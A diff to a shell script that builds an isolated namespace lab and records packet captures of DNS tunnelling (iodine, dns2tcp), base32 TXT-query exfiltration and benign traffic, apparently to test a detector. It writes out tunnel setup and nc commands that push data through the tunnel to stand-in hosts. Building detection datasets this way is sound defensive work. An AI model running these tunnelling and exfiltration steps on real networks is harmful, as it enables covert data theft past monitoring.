@@ -49,8 +49,9 @@
 # Captures (dumpcap on the agent's veth, one file each, each stopping by itself after
 # 60 s, benign after 120 s):
 #   iodine.pcap        iodine -f -r (no raw mode) through the resolver to iodined for
-#                      t.example-tunnel.test; once dns0 is up, 5 pings of 800 bytes through
-#                      the tunnel (about 4 KB each way); the client is stopped ~10 s later
+#                      t.example-tunnel.test; once its tunnel is up, 3 pings and 4 KB of
+#                      random data over TCP through the tunnel (nc to a sink behind
+#                      iodined); the client is stopped ~10 s after the tunnel came up
 #   dns2tcp.pcap       dns2tcpc (stdin mode) to the "sink" resource of dns2tcpd for
 #                      dns2tcp.example-tunnel.test, sending a 4 KB file
 #   dig_base32.pcap    30 dig TXT queries <base32 chunk>.x.exfil-test.example carrying a
@@ -79,9 +80,9 @@
 #   direct_tls.pcap    openssl s_client to 10.99.0.80:443 with SNI api.outside-test.example
 #                      and with SNI dns.google (ALPN h2), kdig +tls to 10.99.0.80:853 (a TLS
 #                      listener that is not a DNS server: handshake, then a failed query)
-#   benign.pcap        about 2,100 ordinary DNS queries over about 400 distinct names
-#                      (dig -f batches, +tries=1 +time=1) answered by dnsmasq's local
-#                      records, and 3 HTTP requests through the proxy to 10.99.0.80
+#   benign.pcap        2,101 ordinary DNS queries over 393 distinct names (dig -f
+#                      batches of 150, 2 s apart, +tries=1 +time=1) answered by dnsmasq's
+#                      local records, and 3 HTTP requests through the proxy to 10.99.0.80
 #
 # Slow exfiltration: one query a minute for an hour cannot be recorded in a sensible
 # time. dig_slow.pcap is recorded at full speed and then its pcap record headers are
@@ -430,14 +431,15 @@ while time.monotonic() < deadline:
     s.sendto(resp, peer)
 EOF
 
-# The dns2tcp resource: reads what the tunnel brings (until EOF, 4096 bytes or 10 s
-# idle) and answers with one line naming the byte count and a digest. At most 4
-# connections, 300 s in all.
+# The tunnels' far end (the dns2tcp resource, and a listener behind iodined's tunnel
+# address): reads what the tunnel brings (until EOF, 4096 bytes or 10 s idle) and
+# answers with one line naming the byte count and a digest. At most 4 connections,
+# 300 s in all.
 cat >"$TMP/sink.py" <<'EOF'
 import hashlib, socket, sys, time
 srv = socket.socket()
 srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-srv.bind(("127.0.0.1", 7777))
+srv.bind((sys.argv[2], int(sys.argv[3])))
 srv.listen(4)
 open(sys.argv[1], "w").close()
 deadline = time.monotonic() + 300
@@ -600,7 +602,8 @@ look += ["the-quick-brown-fox-jumps-over-the-lazy-dog.blog.example.net",
          "how-to-configure-your-home-router.docs.example.org",
          "kubernetes-cluster-upgrade-checklist.wiki.example.net"]
 names.update(look)
-recs += ["address=/cloudfront.net/192.0.2.30", "address=/googlevideo.com/192.0.2.31"]
+recs += ["address=/cloudfront.net/192.0.2.30", "address=/cloudfront.net/2001:db8::30",
+         "address=/googlevideo.com/192.0.2.31", "address=/googlevideo.com/2001:db8::31"]
 special = [("_dmarc.example.org", "TXT"), ("selector1._domainkey.example.com", "TXT"),
            ("example.com", "TXT"), ("example.com", "MX"), ("example.org", "MX"),
            ("_sip._tcp.example.com", "SRV"), ("_xmpp-client._tcp.example.org", "SRV"),
@@ -673,7 +676,7 @@ http {
 	send_timeout 5s;
 	server {
 		listen $IP_S:80;
-		listen $IP_S:443 ssl;
+		listen $IP_S:443 ssl http2;
 		listen $IP_S:853 ssl;
 		server_name www.$OUT_D;
 		ssl_certificate $TMP/cert.pem;
@@ -766,7 +769,6 @@ address=/intranet.attacker-test.example/10.99.0.100
 address=/loopback.attacker-test.example/127.0.0.1
 address=/www.attacker-test.example/192.0.2.66
 host-record=metadata.google.internal,$IP_MD
-host-record=www.$OUT_D,$IP_S
 EOF
 python3 "$TMP/benign.py" "$TMP/benign.q" "$TMP/dnsmasq.conf" >"$TMP/benign.log"
 
@@ -775,7 +777,10 @@ ip netns exec "$NS_I" iodined -f -c -l "$IP_I" -p 53 -P "$IOD_PASS" -d ew-dns0 \
 	"$TUN_SRV/27" "$IOD_ZONE" >"$TMP/iodined.log" 2>&1 &
 IODINED_PID=$!
 PIDS+=("$IODINED_PID")
-ip netns exec "$NS_T" python3 "$TMP/sink.py" "$TMP/sink.ready" >"$TMP/sink.log" 2>&1 &
+ip netns exec "$NS_T" python3 "$TMP/sink.py" "$TMP/sink.ready" 127.0.0.1 7777 >"$TMP/sink.log" 2>&1 &
+PIDS+=($!)
+# iodined's side of the tunnel: 0.0.0.0:7000 in ew-det-iod, reached as 10.99.0.193:7000
+ip netns exec "$NS_I" python3 "$TMP/sink.py" "$TMP/iod-sink.ready" 0.0.0.0 7000 >"$TMP/iod-sink.log" 2>&1 &
 PIDS+=($!)
 ip netns exec "$NS_T" dns2tcpd -F -f "$TMP/dns2tcpd.conf" >"$TMP/dns2tcpd.log" 2>&1 &
 PIDS+=($!)
@@ -795,8 +800,8 @@ PIDS+=($!)
 ready=
 for _ in $(seq 1 50); do
 	if [ -e "$TMP/ws.ready" ] && [ -e "$TMP/smtp.ready" ] && [ -e "$TMP/exfil.ready" ] &&
-		[ -e "$TMP/sink.ready" ] &&
-		ip netns exec "$NS_A" dig @"$IP_D" +tries=1 +time=1 +short www.$OUT_D A 2>/dev/null | grep -q "$IP_S" &&
+		[ -e "$TMP/sink.ready" ] && [ -e "$TMP/iod-sink.ready" ] &&
+		ip netns exec "$NS_A" dig @"$IP_D" +tries=1 +time=1 +short www.example.com A 2>/dev/null | grep -q 192.0.2.10 &&
 		ip netns exec "$NS_A" curl -s --max-time 2 "http://$IP_S/" 2>/dev/null | grep -q "test server" &&
 		ip netns exec "$NS_A" curl -s --max-time 2 -x "$PROXY" "http://$IP_S/" 2>/dev/null | grep -q "test server" &&
 		ip netns exec "$NS_A" curl -s --max-time 2 "http://$IP_MD/latest/meta-data/" 2>/dev/null | grep -q "ami-id"; then
@@ -840,7 +845,9 @@ DIG=(dig @"$IP_D" +tries=1 +time=2)
 CURL=(curl -sS --max-time 5 -o /dev/null -w '%{http_code}\n')
 
 # 1. iodine: the client in the background, wait (30 s at most) for its tunnel address,
-# push 5 x 800 bytes of ping through the tunnel, stop the client ~10 s after it came up
+# ping through the tunnel, then 4 KB of random data (iodine compresses with zlib, so
+# ping's pattern would shrink to nothing) over TCP to 10.99.0.193:7000; stop the
+# client ~10 s after it came up
 start_capture iodine "udp port 53 or tcp port 53"
 ip netns exec "$NS_A" timeout 60 iodine -f -r -P "$IOD_PASS" -d ew-dns0 "$IP_D" "$IOD_ZONE" \
 	>"$TMP/iodine.log" 2>&1 &
@@ -856,7 +863,11 @@ for _ in $(seq 1 150); do
 done
 [ -n "$up" ] || { echo "record_detect.sh: the iodine tunnel did not come up" >&2; cat "$TMP/iodine.log" >&2; exit 1; }
 t0=$SECONDS
-agent ping -n -c 5 -i 1 -s 800 -W 15 "$TUN_SRV"
+head -c 4096 /dev/urandom >"$TMP/iod-payload"
+agent ping -n -c 3 -i 0.5 -W 10 "$TUN_SRV"
+echo "+ nc $TUN_SRV 7000 <4 KB" >>"$TMP/agent.log"
+ip netns exec "$NS_A" timeout 20 nc -N -w 15 "$TUN_SRV" 7000 <"$TMP/iod-payload" >>"$TMP/agent.log" 2>&1 ||
+	echo "  (nc exit $?)" >>"$TMP/agent.log"
 while [ $((SECONDS - t0)) -lt 10 ]; do sleep 0.5; done
 stop_pid "$IODINE_PID" TERM
 stop_capture
@@ -867,7 +878,7 @@ head -c 4096 "$TMP/d2t-payload.txt" >"$TMP/d2t-payload"
 start_capture dns2tcp "udp port 53 or tcp port 53"
 echo "+ dns2tcpc" >>"$TMP/agent.log"
 # stdin stays open 4 s after the payload, so the sink's answer can come back
-{ cat "$TMP/d2t-payload"; sleep 4; } | ip netns exec "$NS_A" timeout 40 dns2tcpc -f /dev/null \
+{ cat "$TMP/d2t-payload"; sleep 4; } | ip netns exec "$NS_A" timeout 15 dns2tcpc -f /dev/null \
 	-z "$D2T_ZONE" -k "$D2T_KEY" -r sink -l - -t 3 "$IP_D" >>"$TMP/dns2tcpc.log" 2>&1 ||
 	echo "  (dns2tcpc exit $?)" >>"$TMP/agent.log"
 stop_capture
@@ -974,7 +985,7 @@ stop_capture
 
 # 9. dns_over_tcp and direct_tls
 start_capture dns_over_tcp "port 53"
-agent "${DIG[@]}" +tcp www.$OUT_D A
+agent "${DIG[@]}" +tcp www.example.com A
 agent "${DIG[@]}" +tcp example.com TXT
 agent "${DIG[@]}" +tcp www.example.org AAAA
 stop_capture
@@ -985,13 +996,14 @@ agent timeout 10 openssl s_client -connect "$IP_S:443" -servername dns.google -a
 agent timeout 10 kdig @"$IP_S" -p 853 +tls +tls-hostname="dns.$OUT_D" +timeout=3 +retry=0 www.example.com A
 stop_capture
 
-# 10. benign: dig batches of 150 questions, then 3 requests through the proxy
+# 10. benign: dig batches of 150 questions 2 s apart (about 30 s in all), then 3
+# requests through the proxy
 split -l 150 -d "$TMP/benign.q" "$TMP/benign-part."
 start_capture benign "port 53 or tcp port 8080" 120
 for f in "$TMP"/benign-part.*; do
 	ip netns exec "$NS_A" timeout 60 dig @"$IP_D" +tries=1 +time=1 +nocookie -f "$f" \
 		>>"$TMP/benign-dig.log" 2>&1 || echo "  (dig batch exit $?)" >>"$TMP/agent.log"
-	sleep 0.3
+	sleep 2
 done
 agent "${CURL[@]}" -x "$PROXY" "http://$IP_S/"
 agent "${CURL[@]}" -x "$PROXY" "http://$IP_S/docs/index.html"
